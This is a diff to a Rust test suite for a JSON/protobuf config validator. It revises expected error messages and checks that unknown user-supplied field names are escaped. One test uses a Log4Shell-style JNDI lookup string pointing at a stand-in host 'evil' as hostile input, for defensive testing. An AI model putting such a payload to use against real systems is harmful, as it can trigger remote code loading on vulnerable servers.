@@ -176,7 +176,8 @@ mod tests {
     use serde_json::json;
 
     use super::{shorten_quoted_strings, strip_position};
-    use crate::validation::test_support::{batch_with, malformed};
+    use crate::validation::test_support::{batch_with, malformed, problems_of};
+    use crate::validation::FieldError;
 
     #[test]
     fn unknown_field_is_rejected_naming_the_field_and_where_it_is() {
@@ -231,15 +232,25 @@ mod tests {
         })));
 
         assert_eq!(field, "container.resources.memoryMB");
-        assert_eq!(message, "invalid type: string \"lots\", expected u64");
+        assert_eq!(
+            message,
+            "\"lots\" is not a number, expected a whole number from 0 to 18446744073709551615 (a \
+             JSON number or a string of digits, as protobuf prints 64-bit numbers)"
+        );
     }
 
     #[test]
-    fn missing_required_field_is_named() {
-        let (field, message) = malformed(&batch_with(json!({"container": {"image": null}})));
+    fn a_required_field_left_out_is_named_as_validation_names_it() {
+        // proto3: an absent message is its default, so the image's name is empty.
+        let errors = problems_of(json!({"container": {"image": null}}));
 
-        assert_eq!(field, "container");
-        assert_eq!(message, "missing field `image`");
+        assert_eq!(
+            errors,
+            vec![FieldError::new(
+                "container.image.name",
+                "is required, expected a Docker image name such as \"registry.example.com/team/app\""
+            )]
+        );
     }
 
     #[test]
@@ -270,12 +281,12 @@ mod tests {
 
     #[test]
     fn unknown_field_names_from_the_user_are_escaped_in_malformed_errors() {
-        let json = format!(
-            "{{\"owner\": {{\"teamEmail\": \"t@example.com\", {}: 1}}}}",
-            serde_json::to_string("x`\n${jndi:ldap://evil/a}").expect("string")
-        );
+        let mut document: serde_json::Value =
+            serde_json::from_slice(&batch_with(json!({}))).expect("json");
+        document["owner"]["x`\n${jndi:ldap://evil/a}"] = json!(1);
+        let json = serde_json::to_vec(&document).expect("json");
 
-        let (field, message) = malformed(json.as_bytes());
+        let (field, message) = malformed(&json);
 
         assert_eq!(field, "owner");
         assert_eq!(
@@ -294,7 +305,11 @@ mod tests {
         assert_eq!(field, "container.resources.cpu");
         assert_eq!(
             message,
-            format!("invalid type: string \"{}\"…, expected f64", "y".repeat(64))
+            format!(
+                "\"{}\"… is not a number, expected a number (a JSON number or a string such as \
+                 \"1.5\")",
+                "y".repeat(64)
+            )
         );
     }
 
